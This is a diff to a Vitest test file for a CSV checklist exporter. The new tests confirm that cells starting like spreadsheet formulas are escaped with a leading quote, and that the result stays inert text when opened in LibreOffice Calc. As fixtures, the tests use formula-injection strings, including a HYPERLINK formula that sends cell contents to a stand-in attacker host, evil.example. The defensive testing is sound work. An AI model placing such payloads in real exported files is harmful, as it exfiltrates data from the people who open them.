@@ -5,14 +5,14 @@
  * columns and opens in LibreOffice with the same cells; every export is the
  * same bytes twice.
  */
-import { execFileSync } from 'node:child_process';
-import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { Ajv } from 'ajv';
 import addFormats from 'ajv-formats';
 import { afterAll, describe, expect, it } from 'vitest';
-import { checklistCsv, csvField, exportRubric, oscalCatalog, releaseDate, uuidV5 } from '../src/export.js';
+import { openInCalc, requireLibreOfficeInCi, soffice } from '../../../scripts/libreoffice.js';
+import { checklistCsv, csvField, csvText, exportRubric, oscalCatalog, releaseDate, uuidV5 } from '../src/export.js';
 import type { Rubric } from '../src/index.js';
 import { loadReleases } from '../src/loader.js';
 
@@ -186,43 +186,46 @@ describe('the CSV checklist', () => {
     expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 
-  const soffice = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((path) => existsSync(path));
+  it("writes text a spreadsheet would run as a formula with a leading ', and reads it back as it was (OWASP)", () => {
+    const texts = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', "'=quoted", "''+twice", "'plain", 'a=b', ''];
+    expect(texts.map(csvField)).toEqual([
+      "'=1+1",
+      "'+1",
+      "'-1",
+      "'@SUM(A1)",
+      "'\tx",
+      '"\'\rx"',
+      "''=quoted",
+      "'''+twice",
+      "'plain",
+      'a=b',
+      '',
+    ]);
+    expect(texts.map((t) => csvText(csvField(t).replace(/^"|"$/g, '')))).toEqual(texts);
+    // Rubric text is written the same way: a title that starts like a formula stays text.
+    const hostile = structuredClone(current) as { milestones: { title: string }[] };
+    (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/","Click")';
+    expect(checklistCsv(hostile as unknown as Rubric)).toContain('"\'=HYPERLINK(""http://evil.example/"",""Click"")"');
+  });
+
   const work = mkdtempSync(join(tmpdir(), 'usd1-csv-'));
   afterAll(() => rmSync(work, { recursive: true, force: true }));
-  if (!soffice && process.env.CI) throw new Error('LibreOffice is missing: apt-get install -y libreoffice-calc-nogui');
+  requireLibreOfficeInCi();
+
+  it.skipIf(!soffice)('opens in LibreOffice Calc as text, never a formula, with every cell as written', () => {
+    const hostile = structuredClone(current) as { milestones: { title: string }[] };
+    (hostile.milestones[0] as { title: string }).title = '=HYPERLINK("http://evil.example/?d="&A2,"Click")';
+    writeFileSync(join(work, 'hostile.csv'), checklistCsv(hostile as unknown as Rubric));
+    const opened = openInCalc(join(work, 'hostile.csv'), work);
+    expect(opened.spreadsheet).not.toContain('table:formula');
+    expect(readCsv(opened.csv)[1]?.[3]).toBe(`'=HYPERLINK("http://evil.example/?d="&A2,"Click")`);
+  });
 
   it.skipIf(!soffice)('opens in LibreOffice Calc with every cell as written, UTF-8 included', () => {
     writeFileSync(join(work, 'checklist.csv'), csv);
-    const profile = `-env:UserInstallation=file://${join(work, 'profile')}`;
-    // CSV (comma, double quote, UTF-8, from line 1) into a spreadsheet, then that spreadsheet back to CSV.
-    execFileSync(
-      soffice as string,
-      [
-        profile,
-        '--headless',
-        '--infilter=CSV:44,34,76,1',
-        '--convert-to',
-        'ods',
-        '--outdir',
-        join(work, 'ods'),
-        join(work, 'checklist.csv'),
-      ],
-      { stdio: 'pipe', timeout: 120_000 },
-    );
-    execFileSync(
-      soffice as string,
-      [
-        profile,
-        '--headless',
-        '--convert-to',
-        'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false',
-        '--outdir',
-        join(work, 'back'),
-        join(work, 'ods/checklist.ods'),
-      ],
-      { stdio: 'pipe', timeout: 120_000 },
-    );
-    const back = readCsv(readFileSync(join(work, 'back/checklist.csv'), 'utf8').replace(/\r?\n/g, '\r\n'));
+    const opened = openInCalc(join(work, 'checklist.csv'), work);
+    expect(opened.spreadsheet).not.toContain('table:formula');
+    const back = readCsv(opened.csv);
     expect(back).toEqual(rows);
   });
 });
